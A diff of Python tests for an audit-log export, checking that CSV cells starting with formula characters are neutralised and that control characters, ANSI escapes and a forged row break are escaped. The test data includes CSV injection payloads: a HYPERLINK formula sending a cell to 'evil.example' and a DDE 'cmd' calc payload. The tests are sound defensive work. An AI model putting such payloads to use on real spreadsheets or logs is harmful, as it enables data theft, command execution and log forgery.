@@ -29,7 +29,7 @@ class csv_test(audit_case):
         model = rows[0].index("model")
         self.assertEqual([row[model] for row in rows[4:]],
                          ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+cmd|' /C calc'!A0", "'-2+3",
-                          "'@SUM(1)", "'\tTAB", "'\rCR"])
+                          "'@SUM(1)", "\\tTAB", "\\rCR"])
         # Cells that do not start so are as they were: numbers, times, ordinary text.
         self.assertEqual(rows[1][0], "0")
         self.assertEqual(rows[1][model], "mistral-small")
@@ -68,6 +68,20 @@ class control_characters_test(audit_case):
                                                      "--auditor-key", self.auditor_key))
         self.assertIn("a\\x00b", table)  # not cut at the NUL
         self.assertIn("id-\\xff\\xfe-\\u202e-end", table)
+
+    def test_csv_escapes_what_would_forge_a_row_or_drive_the_terminal(self):
+        # Before: the CSV held the raw line break, ESC, NUL, bytes that are not UTF-8 and U+202E.
+        out = self.output("audit", "query", "--db", self.db, "--format", "csv")
+        self.assertEqual(len(out.splitlines()), 1 + 6)  # header, 6 records
+        rows = list(csv.reader(io.StringIO(out, newline="")))
+        at = {name: rows[0].index(name) for name in ("model", "path", "tenant", "request_id")}
+        self.assertEqual(rows[3][at["model"]], "gpt\\n  7  2026-01-01T00:00:00.000  forged-row")
+        self.assertEqual(rows[4][at["path"]], "/v1/\\x1b[31mred\\x1b[0m")
+        self.assertEqual(rows[5][at["tenant"]], "a\\x00b")
+        self.assertEqual(rows[6][at["request_id"]], "id-\\xff\\xfe-\\u202e-end")
+        # JSON lines keep them as recorded (JSON escapes).
+        jsonl = self.output("audit", "query", "--db", self.db, "--format", "jsonl").splitlines()
+        self.assertEqual(json.loads(jsonl[3])["path"], "/v1/\x1b[31mred\x1b[0m")
 
     def test_show_and_verify_proof_escape_the_record(self):
         for seq in ("2", "3", "4", "5"):
